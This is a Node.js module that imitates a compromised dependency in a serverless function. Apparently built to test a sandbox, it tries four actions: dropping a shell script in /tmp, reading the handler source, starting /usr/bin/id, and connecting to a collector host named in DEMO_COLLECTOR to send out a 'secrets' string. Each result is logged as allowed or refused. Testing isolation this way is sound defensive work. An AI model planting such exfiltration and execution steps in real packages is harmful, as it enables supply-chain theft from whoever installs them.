// A dependency gone bad: what it tries once a function requires and calls it.
// Each attempt resolves to a record of what was tried and what happened, so
// that the function can hand them back to whoever invoked it.
'use strict';
const childProcess = require('child_process');
const fs = require('fs');
const net = require('net');

const DROPPED_FILE = '/tmp/payload.sh';
const PROGRAM = ['/usr/bin/id', '-un'];

// libuv reports system errors as negative numbers.
function refused(error) {
  const errno = Math.abs(error.errno);
  return { outcome: 'refused', errno, error: error.code || String(error) };
}

function writeTmp(path = DROPPED_FILE) {
  const record = { attempt: 'write_tmp', target: path };
  try {
    fs.writeFileSync(path, '#!/bin/sh\necho pwned\n');
  } catch (error) {
    return { ...record, ...refused(error) };
  }
  fs.unlinkSync(path);
  return { ...record, outcome: 'allowed' };
}

function readSource(path) {
  const record = { attempt: 'read_handler', target: path };
  try {
    return { ...record, outcome: 'allowed', bytes: fs.readFileSync(path).length };
  } catch (error) {
    return { ...record, ...refused(error) };
  }
}

function startProgram(argv = PROGRAM) {
  const record = { attempt: 'start_program', target: argv[0], argv };
  const child = childProcess.spawnSync(argv[0], argv.slice(1), { stdio: 'inherit' });
  if (child.error) return { ...record, ...refused(child.error) };
  return { ...record, outcome: 'exited', status: child.status };
}

function sendOut(host, port, data) {
  const record = { attempt: 'connect', target: `${host}:${port}` };
  return new Promise((resolve) => {
    const socket = net.connect({ host, port, family: 4 }, () => {
      socket.end(data, () => resolve({ ...record, outcome: 'allowed', sent: data.length }));
    });
    socket.setTimeout(10000, () => socket.destroy(new Error('timed out')));
    socket.on('error', (error) => resolve({ ...record, ...refused(error) }));
  });
}

// All four attempts, in order, the loot going to DEMO_COLLECTOR (host:port).
async function misbehave(handlerSource) {
  const collector = process.env.DEMO_COLLECTOR;
  const at = collector.lastIndexOf(':');
  const name = process.env.AWS_LAMBDA_FUNCTION_NAME || process.env.K_SERVICE || '';
  return [
    writeTmp(),
    readSource(handlerSource),
    startProgram(),
    await sendOut(collector.slice(0, at), Number(collector.slice(at + 1)), Buffer.from(`secrets of ${name}\n`)),
  ];
}

module.exports = { misbehave, writeTmp, readSource, startProgram, sendOut };
